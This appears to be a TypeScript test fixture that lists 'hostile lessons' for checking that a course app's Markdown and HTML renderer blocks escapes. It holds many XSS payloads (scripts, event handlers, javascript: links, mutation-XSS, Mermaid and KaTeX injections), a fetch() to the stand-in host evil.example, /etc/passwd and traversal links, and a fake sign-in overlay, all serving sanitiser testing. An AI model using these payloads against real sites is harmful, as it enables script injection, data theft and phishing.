/**
 * Lessons that try to get out: to run a program, to reach the network, the app, another course or the disk.
 * Rendered, none may keep anything active; shown in the frame, none may have any effect. What a program would do if
 * it ran is always the same, so that a test can look for it: it sets `window.escaped`, tells `parent`, and asks
 * {@link EVIL} for something.
 */

/** A host that nobody may be asked for anything. */
export const EVIL = 'evil.example'

export interface HostileLesson {
  readonly name: string
  readonly format: 'markdown' | 'html'
  readonly text: string
}

const ATTACK = `window.escaped=1;parent.postMessage('escaped','*');fetch('https://${EVIL}/x')`
const md = (name: string, text: string): HostileLesson => ({
  name,
  format: 'markdown',
  text: `# Lesson\n\n${text}\n`,
})
const html = (name: string, text: string): HostileLesson => ({
  name,
  format: 'html',
  text: `<!doctype html><html><head><title>Lesson</title></head><body><h1>Lesson</h1>${text}</body></html>`,
})
const both = (name: string, text: string): HostileLesson[] => [md(name, text), html(`${name} (page)`, text)]

const scripts = [
  ...both('script element', `<script>${ATTACK}</script>`),
  md('script in the middle of a paragraph', `Some <script>${ATTACK}</script> words`),
  md('script with a line break in its name', `<script\n>${ATTACK}</script\n>`),
  html('module from the web', `<script type="module" src="https://${EVIL}/x.js"></script>`),
  html('script in the head', `</body></html><script>${ATTACK}</script>`),
  md('script by SVG', `<svg onload="${ATTACK}"><script>${ATTACK}</script></svg>`),
  md(
    'script in SVG use',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${ATTACK}</script></svg>#x"/></svg>`,
  ),
  md('script in a template', `<template shadowrootmode="open"><script>${ATTACK}</script></template>`),
  md('script in a noscript', `<noscript><p title="</noscript><script>${ATTACK}</script>"></noscript>`),
  md('closing what stands around', `</main></body></html><script>${ATTACK}</script>`),
  md('comment that never was one', `<!--><script>${ATTACK}</script>-->`),
  md('CDATA', `<![CDATA[<script>${ATTACK}</script>]]>`),
  md('processing instruction', `<?xml version="1.0"?><script>${ATTACK}</script>`),
]

const handlers = [
  ...both('image error handler', `<img src="x" onerror="${ATTACK}">`),
  md('handler without quotes', `<img src=x onerror=window.escaped=1>`),
  md('handler after a slash', `<img/src=x/onerror=window.escaped=1>`),
  md('handler in capitals', `<IMG SRC=x ONERROR="${ATTACK}">`),
  md('focus handler', `<a href="#" autofocus tabindex="1" onfocus="${ATTACK}">x</a>`),
  md('toggle handler', `<details open ontoggle="${ATTACK}"><summary>x</summary>y</details>`),
  md(
    'animation handler',
    `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${ATTACK}">x</b>`,
  ),
  md('handler of an unknown element', `<carrel-x onpointerenter="${ATTACK}" tabindex=0>x</carrel-x>`),
  md('media error handler', `<video><source onerror="${ATTACK}" src="x.mp4"></video>`),
  md('marquee', `<marquee onstart="${ATTACK}">x</marquee>`),
  md('body attributes', `<body onload="${ATTACK}" onpageshow="${ATTACK}">`),
]

const addresses = [
  md('javascript link', `[click](javascript:window.escaped=1)`),
  md('javascript link with a tab', `<a href="java&#9;script:window.escaped=1">click</a>`),
  md('javascript link with a newline', `<a href="java\nscript:window.escaped=1">click</a>`),
  md('javascript link behind a control character', `<a href="&#1;javascript:window.escaped=1">click</a>`),
  md('javascript link in entities', `[click](&#x6A;&#x61;&#x76;&#x61;script&colon;window.escaped=1)`),
  md('javascript autolink', `<javascript:window.escaped=1>`),
  md('javascript by reference', `[click][x]\n\n[x]: javascript:window.escaped=1`),
  md(
    'javascript in an area',
    `<map name="m"><area shape="rect" coords="0,0,900,900" href="javascript:window.escaped=1"></map><img usemap="#m" src="x">`,
  ),
  md(
    'javascript in MathML',
    `<math><mtext href="javascript:window.escaped=1">x</mtext><maction actiontype="statusline#https://${EVIL}">y</maction></math>`,
  ),
  md('vbscript link', `[click](vbscript:msgbox(1))`),
  md('data page', `[click](data:text/html,<script>${ATTACK}</script>)`),
  html(
    'data page in an image',
    `<img src="data:text/html,<script>${ATTACK}</script>"><object data="data:text/html,<script>${ATTACK}</script>"></object>`,
  ),
  md('file address', `[disk](file:///etc/passwd) ![disk](file:///etc/passwd)`),
  md(
    'up and out of the course',
    `[up](../../../../etc/passwd) ![up](../../../../../etc/passwd) [up](..%2f..%2f..%2fetc/passwd)`,
  ),
  md(
    "another course's file",
    `[theirs](//other.localhost/f/secret.md) ![theirs](http://other.localhost/f/secret.png)`,
  ),
  md("the app's own protocol", `[x](carrel://open?path=/etc) [y](carrel:lesson/../../x)`),
  md('network share', `[share](\\\\\\\\${EVIL}\\\\share\\\\x) ![share](//${EVIL}/share/x.png)`),
  md('search protocol', `[x](search-ms:query=x) [y](ms-officecmd:x) [z](smb://${EVIL}/x)`),
]

const network = [
  ...both('picture from the web', `<img src="https://${EVIL}/p.png" srcset="https://${EVIL}/p2.png 2x">`),
  md('picture from the web in Markdown', `![x](https://${EVIL}/p.png)`),
  md(
    'picture sources',
    `<picture><source srcset="https://${EVIL}/p.avif"><img src="https://${EVIL}/p.png"></picture>`,
  ),
  md(
    'recording from the web',
    `<video src="https://${EVIL}/v.mp4" poster="https://${EVIL}/p.png" autoplay></video><audio src="//${EVIL}/a.mp3"></audio>`,
  ),
  md('captions from the web', `<video src="v.mp4"><track src="https://${EVIL}/c.vtt" default></video>`),
  md(
    'style element',
    `<style>@import "https://${EVIL}/s.css"; body{background:url(https://${EVIL}/b.png)}</style>`,
  ),
  md('style attribute', `<p style="background:url(https://${EVIL}/b.png);position:fixed;inset:0">x</p>`),
  html(
    'links in the head',
    `<link rel="stylesheet" href="https://${EVIL}/s.css"><link rel="preload" as="image" href="https://${EVIL}/p.png"><link rel="dns-prefetch" href="//${EVIL}">`,
  ),
  html('refresh', `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`),
  html('base address', `<base href="https://${EVIL}/"><img src="x.png"><a href="y.html">y</a>`),
  md(
    'ping and attribution',
    `<a href="https://example.org/" ping="https://${EVIL}/p" attributionsrc="https://${EVIL}/a">x</a>`,
  ),
  md(
    'old attributes',
    `<table background="https://${EVIL}/b.png"><tr><td background="https://${EVIL}/c.png">x</td></tr></table><img lowsrc="https://${EVIL}/l.png" longdesc="https://${EVIL}/d">`,
  ),
  md(
    'svg image and filter',
    `<svg><image href="https://${EVIL}/p.png"/><filter><feImage href="https://${EVIL}/f.png"/></filter></svg>`,
  ),
]

const frames = [
  ...both(
    'frame',
    `<iframe src="https://${EVIL}/" srcdoc="<script>parent.parent.postMessage('escaped','*')</script>"></iframe>`,
  ),
  md('object and embed', `<object data="https://${EVIL}/x.swf"></object><embed src="https://${EVIL}/y.svg">`),
  md('frame with a javascript address', `<iframe src="javascript:parent.window.escaped=1"></iframe>`),
  html('frameset', `<frameset><frame src="https://${EVIL}/"></frameset>`),
  md(
    'fenced frame and portal',
    `<fencedframe src="https://${EVIL}/"></fencedframe><portal src="https://${EVIL}/"></portal>`,
  ),
  md(
    'top navigation',
    `<a href="https://${EVIL}/" target="_top">x</a><a href="https://${EVIL}/" target="_blank" rel="opener">y</a>`,
  ),
  ...both(
    'form',
    `<form action="https://${EVIL}/" target="_top"><input name="x" autofocus><button formaction="javascript:window.escaped=1">go</button></form>`,
  ),
  md('download', `<a href="https://${EVIL}/x.exe" download>x</a>`),
]

const disguises = [
  md(
    'names that shadow',
    `<a id="location"></a><form id="document" name="body"><input name="parentNode"></form><img name="getElementById"><p id="carrel">x</p>`,
  ),
  md(
    'a forged slot',
    `<div data-slot="slot-0" data-kind="quiz" class="slot">x</div><main class="lesson"><div data-slot="slot-1"></div></main>`,
  ),
  md(
    'an overlay',
    `<div class="overlay" style="position:fixed;inset:0;z-index:9999"><a href="https://${EVIL}/">Sign in again</a></div>`,
  ),
  md('popover', `<button popovertarget="p">x</button><div id="p" popover>y</div><dialog open>z</dialog>`),
  md('custom element definitions', `<p is="x-y">x</p><slot name="z"></slot>`),
  md(
    'MathML that changes on reading twice',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.escaped=1&gt;">`,
  ),
  md(
    'SVG that changes on reading twice',
    `<svg></p><style><a id="</style><img src=1 onerror=window.escaped=1>">`,
  ),
  md('title that closes itself', `<title><a title="</title><img src=x onerror=window.escaped=1>">`),
  md(
    'select that changes',
    `<select><template><style><!--</style></template><a title="--><img src=x onerror=window.escaped=1>"></select>`,
  ),
  md(
    'fence information',
    `\`\`\`"><script>${ATTACK}</script>\nx\n\`\`\`\n\n\`\`\`x onmouseover=window.escaped=1\ny\n\`\`\``,
  ),
  md(
    'heading and attribute list',
    `## <img src=x onerror=window.escaped=1> {#x" onclick="window.escaped=1}\n\n![x](x.png){width="1" onload="window.escaped=1" style="x" alt="\\"><script>${ATTACK}</script>"}`,
  ),
  md(
    'container information',
    `::: {.note onclick="window.escaped=1" #"><script>}\nx\n:::\n\n> [!NOTE] <script>${ATTACK}</script>\n> y`,
  ),
  {
    name: 'front matter',
    format: 'markdown',
    text: `---\ntitle: |\n  <img src=x onerror="${ATTACK}">\nlanguage: '"><script>'\nid: '../../x'\n---\n\ntext`,
  } as const,
  md('footnote', `x[^1]\n\n[^1]: <img src=x onerror="${ATTACK}"> [y](javascript:window.escaped=1)`),
  md(
    'quiz',
    [
      '```quiz',
      'title: |',
      `  <script>${ATTACK}</script>`,
      'questions:',
      '  - prompt: |',
      `      <img src=x onerror="${ATTACK}"> [x](javascript:window.escaped=1)`,
      '    choices:',
      '      - right: |',
      `          <script>${ATTACK}</script> right`,
      '      - wrong: b',
      '```',
    ].join('\n'),
  ),
]

const drawings = [
  md(
    'diagram with a callback',
    '```mermaid\n%%{init: {"securityLevel":"loose","htmlLabels":true}}%%\nflowchart LR\nA["<img src=x onerror=window.escaped=1>"]-->B\nclick A href "javascript:window.escaped=1"\nclick B call alert()\n```',
  ),
  md('diagram that closes its place', `\`\`\`mermaid\n</pre><script>${ATTACK}</script>\n\`\`\``),
  md(
    'formula with an address',
    `$\\href{javascript:window.escaped=1}{x}$ $$\\includegraphics{https://${EVIL}/p.png}$$ $\\url{https://${EVIL}}$`,
  ),
  md(
    'formula with HTML',
    `$\\htmlClass{x}{y} \\htmlId{location}{z} \\htmlStyle{position:fixed}{w} \\htmlData{slot=slot-0}{v}$`,
  ),
  md(
    'formula that closes its place',
    `$x</annotation></math><script>${ATTACK}</script>$ $\\text{<img src=x onerror=window.escaped=1>}$`,
  ),
  md(
    'formula that never ends',
    `$\\def\\x{\\x\\x}\\x$ $\\gdef\\frac#1#2{\\frac{#1}{#2}\\frac{#1}{#2}}\\frac12$ $\\rule{99999em}{99999em}$`,
  ),
  html(
    'equation image',
    `<img class="equation_image" data-equation-content="\\href{javascript:window.escaped=1}{x}" src="https://${EVIL}/e.png">`,
  ),
]

export const hostileLessons: readonly HostileLesson[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...network,
  ...frames,
  ...disguises,
  ...drawings,
]
